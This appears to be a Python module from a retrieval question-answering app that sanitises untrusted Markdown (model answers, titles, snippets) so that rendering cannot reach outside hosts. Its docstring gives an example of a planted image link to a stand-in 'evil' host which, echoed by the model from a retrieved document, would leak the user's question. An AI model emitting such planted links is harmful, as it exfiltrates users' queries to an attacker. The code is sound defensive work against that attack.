"""Untrusted text (answers, document titles and snippets) as Markdown that cannot reach out.

A planted ``![x](https://evil/?q=…)`` in a document, echoed by the model, would make the viewer's
browser fetch that URL and leak the question; raw HTML could do worse. So images become plain
text, raw HTML is escaped, links keep their text but lose their target, and bare URLs stay text.
Linear time.
"""

from __future__ import annotations

import re
from typing import Any

# `![alt](target)`, `[text](target)`, `[text][ref]` and autolinks `<https://…>`; bounded pieces
# with no nested quantifiers, so matching stays linear.
_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\([^)\n]{0,2000}\)")
_LINK = re.compile(r"(?<!\\)\[([^\]\n]{0,500})\]\([^)\n]{0,2000}\)")
_REFERENCE_DEFINITION = re.compile(r"^\s{0,3}\[[^\]\n]{1,500}\]:\s*\S+.*$", re.M)
# Bare ``https://…`` and ``www.…``, which GitHub-flavoured renderers (Streamlit's) turn into links:
# a backslash escape before the ``:`` or ``.`` keeps the text and stops the autolink.
_BARE_LINK = re.compile(r"\b(https?|ftps?):(?=//)|\b(www)\.", re.I)


def safe_markdown(text: str) -> str:
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    text = _IMAGE.sub(lambda m: f"[image: {m.group(1)}]", text)
    text = _LINK.sub(lambda m: m.group(1), text)
    text = _REFERENCE_DEFINITION.sub("", text)
    text = _BARE_LINK.sub(lambda m: f"{m.group(1)}\\:" if m.group(1) else f"{m.group(2)}\\.", text)
    return text.replace("![", "!\\[")


def relevance_label(source: dict[str, Any]) -> str:
    """The source's relevance as a person reads it: its similarity to the question in percent."""
    relevance = source.get("relevance")
    return "relevance n/a" if relevance is None else f"relevance {relevance:.0%}"


def highlighted_passage(source: dict[str, Any]) -> str:
    """The passage, highlighted, after where it sits in its page (``start`` to ``end`` characters of
    the page's text; absent for passages stored before spans were kept)."""
    # Inside ``:orange-background[…]`` every bracket is escaped (safe_markdown's "!\\[" included).
    passage = safe_markdown(source["snippet"]).replace("!\\[", "![")
    passage = passage.replace("[", "\\[").replace("]", "\\]")
    highlighted = f":orange-background[{passage}]" if passage.strip() else passage
    start, end = source.get("start"), source.get("end")
    if start is None or end is None:
        return highlighted
    return f"characters {start} to {end} of page {source['page']}: {highlighted}"
